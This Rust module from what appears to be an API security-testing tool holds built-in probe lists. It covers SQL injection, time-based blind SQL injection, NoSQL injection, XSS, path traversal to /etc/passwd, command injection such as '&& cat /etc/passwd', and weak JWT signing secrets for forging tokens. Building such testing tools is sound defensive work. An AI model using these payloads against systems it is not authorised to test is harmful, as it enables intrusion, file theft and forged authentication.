//! Built-in payload lists a step can fan out over (`payloads: sqli`). Short on purpose: each
//! probe is a request against someone's API, so the lists hold the shapes that tell, not every
//! variant a fuzzer would try.

pub const NAMES: &[&str] =
    &["sqli", "sqli_time", "nosqli", "xss", "path_traversal", "command_injection", "jwt_secrets"];

/// Error-based SQL injection: quotes and syntax that break a query built by concatenation.
const SQLI: &[&str] = &[
    "'",
    "\"",
    "1' OR '1'='1",
    "1 OR 1=1--",
    "') OR ('1'='1",
    "1' UNION SELECT NULL--",
    "1;SELECT 1",
    "' AND 1=CONVERT(int, @@version)--",
];

/// Time-based blind SQL injection (needs `requires: [time_based]` and `--allow time-based`):
/// pair with `max_time_ms` below the delay.
const SQLI_TIME: &[&str] = &[
    "1' AND SLEEP(3)--",
    "1'; SELECT pg_sleep(3)--",
    "1'; WAITFOR DELAY '0:0:3'--",
    "1' AND 1=(SELECT 1 FROM (SELECT SLEEP(3))x)--",
    "1' AND 1=randomblob(300000000)--",
];

const NOSQLI: &[&str] =
    &["{\"$ne\": null}", "{\"$gt\": \"\"}", "' || '1'=='1", "';return true;var x='", "{\"$where\": \"sleep(100)\"}"];

const XSS: &[&str] =
    &["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>"];

const PATH_TRAVERSAL: &[&str] =
    &["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "..\\..\\windows\\win.ini"];

const COMMAND_INJECTION: &[&str] = &[";id", "| id", "$(id)", "`id`", "&& cat /etc/passwd"];

/// HMAC secrets JWTs are signed with when nobody chose one: framework defaults, examples from
/// tutorials and the top of the common-password lists (`forge_jwt` tries them offline).
const JWT_SECRETS: &[&str] = &[
    "secret",
    "secret123",
    "secretkey",
    "secret_key",
    "mysecret",
    "supersecret",
    "jwt_secret",
    "jwtsecret",
    "your-256-bit-secret",
    "your_jwt_secret",
    "changeme",
    "default",
    "password",
    "password1",
    "password123",
    "123456",
    "12345678",
    "qwerty",
    "letmein",
    "admin",
    "test",
    "key",
    "random",
    "s3cr3t",
    "iloveyou",
    "dragon",
    "monkey",
    "football",
    "abc123",
    "welcome",
];

/// A built-in list by name.
pub fn builtin(name: &str) -> Option<&'static [&'static str]> {
    Some(match name {
        "sqli" => SQLI,
        "sqli_time" => SQLI_TIME,
        "nosqli" => NOSQLI,
        "xss" => XSS,
        "path_traversal" => PATH_TRAVERSAL,
        "command_injection" => COMMAND_INJECTION,
        "jwt_secrets" => JWT_SECRETS,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    #[test]
    fn every_name_has_a_list() {
        for name in super::NAMES {
            assert!(super::builtin(name).is_some_and(|l| !l.is_empty()), "{name}");
        }
    }
}
